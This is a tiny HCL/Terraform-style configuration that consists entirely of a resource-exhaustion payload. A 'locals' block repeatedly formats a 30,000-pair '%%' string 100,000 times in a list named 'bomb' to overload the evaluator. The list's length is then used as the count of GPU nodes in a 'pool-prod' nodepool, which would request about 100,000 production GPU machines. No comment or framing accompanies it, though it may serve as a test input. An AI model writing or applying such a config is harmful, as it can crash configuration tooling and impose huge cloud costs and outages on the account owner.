locals {
  percent = join("", [for i in range(30000) : "%%"])
  bomb    = [for i in range(100000) : length(format(local.percent))]
}

nodepool "train" {
  pool   = "pool-prod"
  flavor = "modelarts.vm.gpu.t4u8"
  count  = length(local.bomb)
}
